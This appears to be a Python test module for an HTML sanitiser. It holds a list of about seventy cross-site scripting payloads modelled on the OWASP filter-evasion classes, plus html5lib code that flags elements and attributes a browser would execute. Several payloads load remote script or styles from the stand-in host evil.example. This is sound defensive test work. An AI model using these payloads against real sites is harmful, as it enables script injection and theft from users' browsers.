"""What would act in a browser if a page took it for HTML: one or more of each class of the OWASP filter evasion list,
of mutations that parsers make of harmless-looking text, and of places that text can break out of.

Whatever runs is called `telltale` or comes from evil.example.
"""

import re

import html5lib

HOSTILE = (
    # Plain, in other cases, with other ends and separators
    "<script>telltale()</script>",
    "<ScRiPt/src=//evil.example/telltale>",
    "<script x>telltale()</script 1=2",
    "<<script>telltale();//\\<</script>",
    "<script\tsrc=//evil.example/telltale></script>",
    "<svg/onload=telltale()>",
    "<img src=x:x onerror=telltale()//",
    # Out of an attribute, a title, a comment, a script, a CDATA section
    '"><img src=x onerror=telltale()>',
    "' autofocus onfocus=telltale() x='",
    '" onmouseover="telltale()',
    "`onmouseover=telltale()",
    "</title><svg onload=telltale()>",
    "</textarea><script>telltale()</script>",
    "</script><script>telltale()</script>",
    "--><iframe srcdoc='<script>telltale()</script>'>",
    "]]><a href=javascript:telltale()>x</a>",
    # Addresses, plain, with entities, control characters and other schemes
    "<IMG SRC=javascript:telltale()>",
    "<a href='jav&#x09;ascript:telltale()'>x</a>",
    "<a href=' &#14; javascript:telltale()'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;telltale()'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#x61script:telltale()'>x</a>",
    "<a href='vbscript:telltale()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD50ZWxsdGFsZSgpPC9zY3JpcHQ+'>x</a>",
    "<a href='java\nscript:telltale()'>x</a>",
    "javascript:telltale()",
    "data:text/html,<script>telltale()</script>",
    # Elements that load, send or lead elsewhere
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:telltale()'>",
    "<link rel=stylesheet href=//evil.example/telltale.css>",
    "<object data='data:text/html,<script>telltale()</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRlbGx0YWxlKCkiLz4='>",
    "<form action=javascript:telltale()><input type=submit></form>",
    "<button formaction=javascript:telltale()>x</button>",
    "<input type=image src=javascript:telltale()>",
    "<frameset onload=telltale()>",
    "<table background='javascript:telltale()'><td>x</table>",
    # Events without a click
    "<body onload=telltale()>",
    "<details open ontoggle=telltale()>x</details>",
    "<video><source onerror=telltale()></video>",
    "<marquee onstart=telltale()>x</marquee>",
    "<input autofocus onfocus=telltale()>",
    # Style
    "<style>@import'//evil.example/telltale'</style>",
    "<div style=\"background-image:url('javascript:telltale()')\">x</div>",
    "<div style='width:expression(telltale())'>x</div>",
    "<style>body{-moz-binding:url(//evil.example/telltale.xml)}</style>",
    # SVG, MathML, templates and old comments
    "<svg><animate xlink:href=#x attributeName=href values=javascript:telltale() /><a id=x><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>telltale()</script>'></foreignObject></svg>",
    "<math href='javascript:telltale()'>x</math>",
    "<template><script>telltale()</script></template>",
    "<!--[if gte IE 4]><script>telltale()</script><![endif]-->",
    # A comment for one parser, its end for another
    "<!--><img src=x onerror=telltale()>-->",
    "<!-- --!><img src=x onerror=telltale()> -->",
    "<![CDATA[><img src=x onerror=telltale()>]]>",
    "<?telltale ><img src=x onerror=telltale()>?>",
    "<!telltale ><img src=x onerror=telltale()>",
    "</ telltale><img src=x onerror=telltale()>",
    # Harmless until it is parsed a second time
    "<noscript><p title='</noscript><img src=x onerror=telltale()>'>",
    "<math><mtext><table><mglyph><style><img src onerror=telltale()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=telltale()>",
    "<listing>&lt;img src=x onerror=telltale()&gt;</listing>",
    "<select><style></select><img src=x onerror=telltale()></style>",
    "&lt;script&gt;telltale()&lt;/script&gt;",
    # Other spellings and other languages
    "+ADw-script+AD4-telltale()+ADw-/script+AD4-",
    "\\x3cscript\\x3etelltale()\\x3c/script\\x3e",
    "%3Cscript%3Etelltale()%3C/script%3E",
    "\uff1cscript\uff1etelltale()\uff1c/script\uff1e",
    "\u2028telltale()\u2029",
    "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}",
)
_ADDRESSES = {"src", "href", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background", "values"}
_ACTING = ("javascript:", "vbscript:", "data:text", "data:image/svg", "//evil", "http://evil", "https://evil")
_RUNNING = {"script", "style", "base", "iframe"}


def acting_parts(content: str) -> list[str]:
    """Elements and attributes in which a browser would do what somebody has written."""
    root = html5lib.parse(content, namespaceHTMLElements=False, scripting=True)
    return [part for element in root.iter() if isinstance(element.tag, str) for part in _of_element(element)]


def _of_element(element) -> list[str]:
    found = []
    is_data = element.tag == "script" and element.get("type") == "application/ld+json"
    if element.tag in _RUNNING and not is_data and "telltale" in "".join(element.itertext()):
        found.append(element.tag)
    for key, value in element.attrib.items():
        name = str(key).rpartition("}")[2].lower()
        plain = re.sub(r"[\x00-\x20]", "", value).lower()
        leads = (name in _ADDRESSES and plain.startswith(_ACTING)) or (name == "srcdoc" and "telltale" in plain)
        refreshes = element.tag == "meta" and element.get("http-equiv") and "telltale" in plain
        if leads or refreshes or name.startswith("on") or (name == "style" and "telltale" in plain):
            found.append(f"{element.tag} {name}={value}")
    return found
